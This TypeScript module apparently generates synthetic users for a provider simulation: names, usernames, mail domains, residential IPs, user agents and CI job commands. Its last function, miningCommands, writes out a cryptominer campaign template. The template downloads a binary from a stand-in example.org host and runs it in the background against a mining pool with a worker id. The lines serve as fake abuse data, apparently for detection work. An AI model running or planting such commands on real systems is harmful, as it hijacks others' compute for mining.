/** How made-up people, honest or not, look to a provider: names, mailboxes, addresses, jobs. */
import type { Prng } from '../base/prng.ts';
import { ADJECTIVES, NOUNS } from './identifiers/name-words.ts';

const FIRST = `ada alan alice amir ana andrei anna aria ben bianca bo carlos chen chloe clara dana
  daniel david diego elena emil emma erik eva fatima felix finn grace hana hugo ida igor ines ivan
  jan jana jonas juan julia kai karim kate lara leo lena li lin lucas luis maja marco maria mark
  marta max mei mia mila mohamed nadia nico nina noah olga omar oscar pablo paul petra priya rafael
  raj rosa sam sara sofia stefan tara theo tim tom uma vera viktor wei yuki yusuf zoe`.split(/\s+/);
const LAST = `adams ali almeida andersen bauer becker berg bianchi brown carter chan chen costa cruz
  das diaz dubois evans fischer garcia gomez gupta haas hansen hoffman horvat ito ivanov jansen
  jensen johnson kaya keller khan kim kovacs kumar larsen lee lewis lopez martin meyer miller moore
  moreau muller nagy nakamura nguyen nielsen novak olsen park patel pereira petrov popov ramos reyes
  ricci rossi santos sato schmidt schulz silva singh smith sokolov suzuki svensson tan tanaka taylor
  thomas torres tran turner vogel wagner walker wang weber white wolf wong wright wu yamada yang
  yilmaz young zhang zhou`.split(/\s+/);
const HANDLES =
  `bit byte code cosmo cyber data dev echo flux gamer geek hack kernel lambda loop matrix
  nerd neon nova orbit pixel proto quant rust shell sigma stack syntax tech turbo vector zen`.split(
    /\s+/,
  );

export interface Name {
  readonly first: string;
  readonly last: string;
}

export function anyName(prng: Prng): Name {
  return { first: prng.pick(FIRST), last: prng.pick(LAST) };
}

function digits(prng: Prng, count: number): string {
  return Array.from({ length: count }, () => prng.below(10)).join('');
}

/** What people call themselves; one in thirty takes what a form proposes. */
export function chosenUsername(prng: Prng, { first, last }: Name): string {
  const style = prng.below(30);
  if (style === 0) return proposedUsername(prng);
  if (style < 8) return `${first}${last}`;
  if (style < 12) return `${first}.${last}`;
  if (style < 16) return `${first[0]}${last}`;
  if (style < 20) return `${first}${digits(prng, 2)}`;
  if (style < 22) return `${first}${1960 + prng.below(50)}`;
  if (style < 24) return `${prng.pick(HANDLES)}${digits(prng, 3)}`;
  if (style < 27) return `${prng.pick(HANDLES)}-${last}`;
  return `${first}-${prng.pick(HANDLES)}`;
}

const WORDS = { adjectives: [...ADJECTIVES], nouns: [...NOUNS] };

/** Adjective, noun and three digits: as the names of a gang of 2026 were, and of many forms. */
export function proposedUsername(prng: Prng): string {
  return `${prng.pick(WORDS.adjectives)}${prng.pick(WORDS.nouns)}${digits(prng, 3)}`;
}

const FREE_MAIL =
  'gmail.com gmail.com gmail.com gmail.com outlook.com hotmail.com yahoo.com proton.me'.split(' ');
const OTHER_MAIL = 'gmx.de mail.ru qq.com 163.com icloud.com web.de yandex.ru naver.com'.split(' ');

export function freeMailDomain(prng: Prng): string {
  return prng.below(4) > 0 ? prng.pick(FREE_MAIL) : prng.pick(OTHER_MAIL);
}

export function chosenLocalPart(prng: Prng, { first, last }: Name): string {
  const style = prng.below(8);
  if (style < 2) return `${first}.${last}`;
  if (style < 4) return `${first}${last}${digits(prng, 2)}`;
  if (style < 5) return `${first}.${last}${digits(prng, 1 + prng.below(3))}`;
  if (style < 6) return `${first[0]}${last}${digits(prng, 4)}`;
  if (style < 7) return `${last}${first}`;
  return `${prng.pick(HANDLES)}${prng.pick(HANDLES)}${digits(prng, 2)}`;
}

/** A provider's people come from four million addresses, and leases change hands. */
export function residentialIp(prng: Prng): string {
  if (prng.below(4) === 0) return residentialIpv6(prng);
  return `${80 + prng.below(4)}.${prng.below(16)}.${prng.below(256)}.${1 + prng.below(254)}`;
}

function residentialIpv6(prng: Prng): string {
  const group = (): string => prng.uint32().toString(16).slice(0, 4);
  return `2a02:${prng.below(64).toString(16)}:${group()}:${group()}::1`;
}

/** Zipf-like: the first of them are most people's. */
export function popular(prng: Prng, count: number): number {
  return Math.floor(count ** ((prng.below(1_000_000) + 1) / 1_000_001)) % count;
}

export function userAgent(prng: Prng): string {
  const system = prng.pick(['Windows', 'macOS', 'Linux', 'Android']);
  return `Browser/${140 - popular(prng, 30)} (${system})`;
}

const STEPS = `setup-node npm-ci npm-test cargo-build cargo-test go-vet go-test make-all pytest tox
  docker-build docker-push eslint prettier mvn-verify gradle-check cmake-configure ctest ruff mypy
  terraform-plan helm-lint mkdocs-build sphinx-html jekyll-build hugo-minify deploy-pages codecov
  upload-artifact cache-restore cache-save git-tag semantic-release bundle-exec rake-spec mix-test
  dotnet-restore dotnet-test swift-build xcodebuild flutter-analyze composer-install phpunit`.split(
  /\s+/,
);

/** Commands of an honest job: a few steps with words of the project's own. */
export function honestCommands(prng: Prng): readonly string[] {
  return Array.from({ length: 4 + prng.below(6) }, () => {
    const target = `${prng.pick(LAST)}-${prng.pick(HANDLES)}`;
    const [step, folder] = [prng.pick(STEPS), prng.pick(FIRST)];
    return `${step} --dir ${folder}/${target} --flag ${prng.pick(NAMES_OF_FLAGS)}`;
  });
}

const NAMES_OF_FLAGS =
  'fast safe full quick strict verbose silent cached fresh locked frozen'.split(' ');

/** The same commands, a few words changed, as people do with what they copy. */
export function edited(prng: Prng, commands: readonly string[]): readonly string[] {
  if (prng.below(3) > 0) return commands;
  const changed = prng.below(commands.length);
  return commands.map((command, i) =>
    i === changed ? (honestCommands(prng)[0] ?? command) : command,
  );
}

/** A campaign's job: one template, with a worker's id of its own in each. */
export function miningCommands(campaign: number, worker: string): readonly string[] {
  const prefix = `${LAST[campaign % LAST.length]}${FIRST[(campaign * 7) % FIRST.length]}`;
  return [
    `sudo apt-get -qq update && sudo apt-get install -y ${prefix} libhwloc-dev screen`,
    `wget -q https://${prefix}.example.org/releases/download/v6.2/${prefix}-linux.tar.gz -O a.tgz`,
    `tar xf a.tgz && mv ${prefix}-linux/${HANDLES[campaign % HANDLES.length]} ./${prefix}-d`,
    `chmod +x ${prefix}-d && nohup ./${prefix}-d -o pool.example.org:443 --rig-id ${worker} &`,
    `while sleep ${60 + campaign}; do date; done`,
  ];
}
